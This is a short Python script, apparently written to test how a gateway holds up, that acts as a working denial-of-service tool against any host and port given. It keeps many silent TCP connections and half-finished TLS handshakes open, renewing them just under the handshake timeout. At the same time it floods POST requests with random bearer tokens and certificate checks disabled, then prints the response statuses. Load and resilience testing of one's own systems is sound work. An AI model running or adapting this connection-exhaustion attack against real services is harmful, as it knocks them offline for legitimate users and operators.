"""Occupy the gateway: silent connections, unfinished TLS handshakes, and requests with invalid tokens.

Arguments: host, port, number of connections of each kind, and seconds. Print the statuses that came back.
"""

import http.client
import secrets
import socket
import ssl
import sys
import time
import uuid
from collections import Counter

_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc"  # the head of a ClientHello of 512 bytes (RFC 8446, 4.1.2)
_SECONDS = 5.0
_RENEW_SECONDS = 3.0  # less than the gateway waits for a handshake


def main(host: str, port: str, count: str, seconds: str) -> None:
    """Renew the connections and send requests until the time is over."""
    deadline = time.monotonic() + float(seconds)
    statuses: Counter[str] = Counter()
    held: list[socket.socket] = []
    while time.monotonic() < deadline:
        for one in held:
            one.close()
        held = [
            *_connections(host, int(port), int(count), b""),
            *_connections(host, int(port), int(count), _HELLO),
        ]
        renewed = time.monotonic()
        while time.monotonic() < min(deadline, renewed + _RENEW_SECONDS):
            statuses[_request(host, int(port))] += 1
    print(*sorted(statuses), flush=True)


def _connections(host: str, port: int, count: int, first: bytes) -> list[socket.socket]:
    found = []
    for _ in range(count):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((host, port))
        found.append(one)
    time.sleep(1)  # until the handshakes of TCP are over
    for one in found:
        try:
            one.send(first)
        except OSError:
            continue
    return found


def _request(host: str, port: int) -> str:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # an attacker does not care
    connection = http.client.HTTPSConnection(host, port, timeout=_SECONDS, context=context)
    headers = {"Authorization": f"Bearer {secrets.token_urlsafe(32)}", "Content-Type": "application/json"}
    try:
        connection.request("POST", f"/v1/tasks/{uuid.uuid4()}/report", "{}", headers)
        return str(connection.getresponse().status)
    except (OSError, http.client.HTTPException):
        return "-"
    finally:
        connection.close()


if __name__ == "__main__":
    main(*sys.argv[1:])
    sys.exit(3)
